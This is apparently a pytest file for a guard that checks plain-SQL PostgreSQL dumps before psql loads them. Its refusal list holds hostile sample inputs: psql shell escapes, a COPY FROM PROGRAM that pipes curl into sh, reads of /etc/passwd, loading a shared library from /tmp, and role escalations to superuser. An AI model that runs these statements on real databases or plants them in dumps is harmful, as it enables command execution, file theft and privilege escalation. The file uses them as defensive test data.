"""Plain-SQL dumps are read as psql reads them: what pg_dump writes passes untouched, meta-
commands and statements a loader must not run are refused with their line and rule."""

from __future__ import annotations

import pytest

from reconciler.data.database.plainsql import RULES, DumpForbidden, check, guarded

PG_DUMP = b"""--
-- PostgreSQL database dump
--

\\restrict yQpz6qBvGECzhDyhR0je18m4YJv4TdE8lbcrCCaVV0QjCTahBXg4HVCn9yUIW2j

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;

CREATE FUNCTION public.trg() RETURNS trigger
    LANGUAGE plpgsql
    AS $$ BEGIN RAISE NOTICE 'a \\! in a body'; RETURN NEW; END $$;

CREATE FUNCTION public.add(integer) RETURNS integer
    LANGUAGE sql
    BEGIN ATOMIC
 SELECT ($1 + 1);
 SELECT CASE WHEN ($1 > 0) THEN 1 ELSE 2 END AS "case";
END;

CREATE TABLE public.res_partner (
    id integer NOT NULL,
    "name" character varying,
    note text DEFAULT E'tab\\there and a quote \\' and \\\\! not a command'
);

/* a comment /* nested */ with \\! in it */
COMMENT ON TABLE public.res_partner IS 'it''s \\! only text';

COPY public.res_partner (id, "name", note) FROM stdin;
1\tAnn \\\\ Backslash\t\\N
2\t\\! not a command: data\tline
3\t\\.ish is data too\tx
\\.

GRANT SELECT ON TABLE public.res_partner TO PUBLIC;
CREATE USER MAPPING FOR CURRENT_USER SERVER s;
SELECT pg_catalog.setval('public.res_partner_id_seq', 3, true);

--
-- PostgreSQL database dump complete
--

\\unrestrict yQpz6qBvGECzhDyhR0je18m4YJv4TdE8lbcrCCaVV0QjCTahBXg4HVCn9yUIW2j
"""


def split(data: bytes, size: int) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)]


@pytest.mark.parametrize("size", [1, 7, 64, 1 << 20])
def test_what_pg_dump_writes_passes_unchanged_but_its_restrict_lines(size: int) -> None:
    """Every line goes on as it came, whatever the chunks; \\restrict lines become blank."""
    out = b"".join(guarded(split(PG_DUMP, size), "dump.sql"))
    expected = [b"" if line.startswith(b"\\restrict") or line.startswith(b"\\unrestrict")
                else line for line in PG_DUMP.split(b"\n")]  # fmt: skip
    assert out.split(b"\n") == expected
    assert check(split(PG_DUMP, size)) == PG_DUMP.count(b"\n")


def test_a_copy_row_longer_than_a_chunk_streams_through() -> None:
    row = b"1\t" + b"\\\\x" * 300_000 + b"\n"
    dump = b"COPY public.blob (id, data) FROM stdin;\n" + row + b"\\.\nSELECT 1;\n"
    assert b"".join(guarded(split(dump, 4096))) == dump


REFUSED = [
    ("meta_command", 2, b"SELECT 1;\n\\! touch /tmp/pwned\n"),
    ("meta_command", 1, b"\\connect other\n"),
    ("meta_command", 2, b"SELECT 1\n\\restrict abc\n;\n"),
    ("meta_command", 1, b"SELECT E'\\\\' \\! id';\n"),
    ("meta_command", 1, b"SELECT 1 \\; SELECT 2;\n"),
    (
        "meta_command",
        3,
        b"CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1;\n"
        b"COPY t FROM stdin;\n\\! id\nEND;\n",
    ),
    ("meta_command", 2, b"COPY t FROM stdin (;\n\\! id\n"),
    ("role_change", 1, b"SET ROLE postgres;\n"),
    ("role_change", 3, b"SET\n  LOCAL role\n  TO postgres;\n"),
    ("role_change", 1, b"SET \"role\" = 'postgres';\n"),
    ("role_change", 1, b"SET SESSION AUTHORIZATION postgres;\n"),
    ("role_change", 1, b"RESET ROLE;\n"),
    ("role_change", 1, b"SELECT pg_catalog.set_config('role', 'postgres', false);\n"),
    ("role_change", 2, b"SELECT 1;\nSET ROLE postgres"),  # psql runs a last line without ;
    ("role_change", 1, b"\xef\xbb\xbfSET ROLE postgres;\n"),  # behind a byte-order mark
    ("role_statement", 1, b"ALTER ROLE odooops__p__staging SUPERUSER;\n"),
    ("role_statement", 1, b"CREATE USER intruder;\n"),
    ("role_statement", 1, b"GRANT pg_read_server_files TO odooops__p__staging;\n"),
    ("alter_system", 1, b"ALTER SYSTEM SET archive_command = 'id';\n"),
    ("copy_form", 1, b"COPY public.t TO PROGRAM 'id';\n"),
    ("copy_form", 1, b"COPY public.t FROM PROGRAM 'curl x | sh';\n"),
    ("copy_form", 1, b"COPY public.t FROM '/etc/passwd';\n"),
    ("copy_form", 1, b"COPY t FROM stdin; SELECT 1;\n"),
    ("copy_form", 3, b"COPY t FROM stdin;\n1\n\\.; SELECT 1\n"),
    ("database_statement", 1, b"ALTER DATABASE x SET search_path = evil, pg_catalog;\n"),
    ("database_statement", 1, b"CREATE DATABASE other;\n"),
    ("load_library", 1, b"LOAD '/tmp/evil.so';\n"),
    ("session_setting", 1, b"SET client_encoding = 'SJIS';\n"),
    ("session_setting", 1, b"SET standard_conforming_strings = off;\n"),
    ("session_setting", 1, b"SELECT set_config('client_encoding', 'SJIS', false);\n"),
    (
        "session_setting",
        1,
        b"DO $$ BEGIN PERFORM set_config('client_encoding', 'BIG5', false); END $$;\n",
    ),
    ("unclear_sql", 1, b"SELECT 1$x$'$x$ \\! id --';\n"),
    ("unclear_sql", 1, b"SELECT 1; \x00 '\n\\! id\n"),
    # Of \restrict and \unrestrict, only pg_dump's exact pair; any other form is a command.
    ("meta_command", 1, b"\\restrict abc def\nSELECT 1;\n"),
    ("meta_command", 1, b"\\restrict ab-c\nSELECT 1;\n"),
    ("meta_command", 1, b"\\restrict\nSELECT 1;\n"),
    ("meta_command", 2, b"\\restrict abc\n \\unrestrict abc\n"),
    ("meta_command", 3, b"\\restrict abc\nSELECT 1;\n\\unrestrict  abc\n"),
    ("restrict_pair", 2, b"SELECT 1;\n\\unrestrict abc\n"),
    ("restrict_pair", 3, b"\\restrict abc\nSELECT 1;\n\\unrestrict abd\n"),
    ("restrict_pair", 2, b"\\restrict abc\n\\restrict abc\nSELECT 1;\n\\unrestrict abc\n"),
    ("restrict_pair", 3, b"\\restrict abc\n\\unrestrict abc\n\\restrict abc\n"),
    ("restrict_pair", 3, b"\\restrict abc\n\\unrestrict abc\n\\unrestrict abc\n"),
    ("restrict_pair", 2, b"SELECT 1;\n\\restrict abc\nSELECT 2;\n\\unrestrict abc\n"),
    ("restrict_pair", 4, b"\\restrict abc\nSELECT 1;\n\\unrestrict abc\nSELECT 2;\n"),
    ("meta_command", 3, b"\\restrict abc\n\\unrestrict abc\n\\! id\n"),
]


@pytest.mark.parametrize(
    ("rule", "line", "dump"), REFUSED, ids=[f"{r[0]}-{i}" for i, r in enumerate(REFUSED)]
)
def test_forbidden_input_is_refused_with_its_line_and_rule(
    rule: str, line: int, dump: bytes
) -> None:
    for size in (1, 5, len(dump)):
        with pytest.raises(DumpForbidden) as refused:
            check(split(dump, size), "up.sql")
        error = refused.value
        assert error.code == "dump_forbidden"
        assert f"up.sql, line {line}: " in error.message and f"[rule {rule}]" in error.message
        assert RULES[rule] in error.message
        assert f"sed -n '{line}p'" in error.remediation and "pg_dump" in error.remediation


def test_the_restrict_pair_is_dropped_whatever_the_line_ends_and_comments_around_it() -> None:
    """CRLF lines, a last line without a newline, comments after \\unrestrict: accepted; the
    two lines reach psql as empty lines, so its line numbers still match the file."""
    dump = (
        b"-- header\r\n\\restrict K3y\r\n\r\nSELECT 1;\r\n-- complete\r\n"
        b"\\unrestrict K3y\r\n\r\n-- a last comment\n\\unrestrict K3y"
    )
    with pytest.raises(DumpForbidden):  # that second \\unrestrict is one too many
        check(split(dump, 3))
    dump = dump.rsplit(b"\n", 1)[0] + b"\n"
    for size in (1, 4, len(dump)):
        out = b"".join(guarded(split(dump, size)))
        assert b"restrict" not in out
        assert out.count(b"\n") == dump.count(b"\n")
    assert b"".join(guarded([b"\\restrict k\n\\unrestrict k"])) == b"\n"


def test_a_restrict_whose_unrestrict_never_comes_is_refused_at_the_end() -> None:
    """A dump cut short (or edited): refused at its end, naming the \\restrict line, before
    psql reads its end of input; nothing after the cut is guessed."""
    dump = b"--\n\\restrict abc123\n\nCREATE TABLE t (id int);\nCOPY t (id) FROM stdin;\n1\n"
    for size in (1, 7, len(dump)):
        with pytest.raises(DumpForbidden) as refused:
            check(split(dump, size), "up.sql")
        error = refused.value
        assert error.code == "dump_forbidden"
        assert error.message.startswith("up.sql, line 2: its \\unrestrict never comes; ")
        assert "[rule restrict_pair]: \\restrict abc123" in error.message
        assert "tail -n 5 dump.sql" in error.remediation and "cut short" in error.remediation
    passed: list[bytes] = []
    with pytest.raises(DumpForbidden):
        passed.extend(guarded(split(dump, 5)))
    assert b"restrict" not in b"".join(passed)


def test_a_refused_line_never_reaches_the_loader() -> None:
    """Only whole lines that were judged go on; the stream stops before the refused one."""
    passed: list[bytes] = []
    with pytest.raises(DumpForbidden):
        for chunk in guarded(split(b"SELECT 1;\nSELECT 2; \\! touch /tmp/x\nSELECT 3;\n", 3)):
            passed.append(chunk)
    assert b"".join(passed) == b"SELECT 1;\n"
